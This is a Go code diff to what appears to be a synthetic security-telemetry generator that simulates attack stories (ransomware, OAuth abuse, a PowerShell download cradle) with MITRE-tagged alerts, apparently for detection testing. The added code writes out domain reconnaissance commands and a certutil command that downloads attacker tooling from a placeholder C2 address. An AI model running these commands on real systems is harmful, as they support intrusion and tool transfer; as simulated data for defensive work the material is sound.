@@ -49,6 +49,8 @@ func (g *generator) stories() {
 	g.ransomwareStory(c.server, psexesvc, c.base+dayNs*2/3, 400, `D:\Shares`)
 	g.ransomwareStory(c.victim2, nil, c.base+dayNs*3/4, 120, `C:\Users\`+c.victim2.owner.profile+`\Documents`)
 	g.oauthStory(c)
+	g.persistenceOnServer(c, psexesvc)
+	g.bruteForce(c)
 	g.backgroundAlerts()
 }
 
@@ -99,6 +101,12 @@ func (g *generator) cradleStory(c storyCast, opened int64) *proc {
 	g.spawn(d, rc, iWhoami, `whoami  /all`, u, t+int64(5*time.Minute+sec))
 	g.spawn(d, rc, iNet, `net  group "Domain Admins" /domain`, u, t+int64(5*time.Minute+2*sec))
 	g.spawn(d, rc, iNltest, `nltest  /dclist:contoso.example`, u, t+int64(5*time.Minute+3*sec))
+	g.devEvent(d, word, t+int64(9*sec), "AsrOfficeChildProcessAudited", func(r *row) {
+		r.file, r.proc = cmd.img, cmd
+		r.additional = `{"IsAudit":true,"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a"}`
+	})
+	cu := g.spawn(d, toolShell(g, d, payload, u, t), iCertutil, `certutil.exe -urlcache -split -f http://`+c2IP+`/tools.txt C:\Users\Public\tools.txt`, u, t+int64(4*time.Minute))
+	g.connect(d, cu, t+int64(4*time.Minute+sec), "ConnectionSuccess", c2IP, "http://"+c2IP+"/tools.txt", 80)
 	g.raise(t+int64(15*sec), srcMDE, "EDR", "Suspicious PowerShell download cradle", "Execution", "High",
 		[]string{"PowerShell (T1059.001)", "Obfuscated Files or Information (T1027)", "Ingress Tool Transfer (T1105)"},
 		evidence{entityType: "Machine", role: "Impacted", dev: d},
@@ -175,4 +183,9 @@ func jsonEscape(s string) string {
 		}
 	}
 	return string(out)
+}
+
+// toolShell is the payload's first command shell, which runs the attacker's tooling.
+func toolShell(g *generator, d *device, payload *proc, u *account, t int64) *proc {
+	return g.spawn(d, payload, iCmd, `cmd.exe /c "certutil.exe -urlcache -split -f http://`+c2IP+`/tools.txt C:\Users\Public\tools.txt"`, u, t+int64(4*time.Minute-sec))
 }
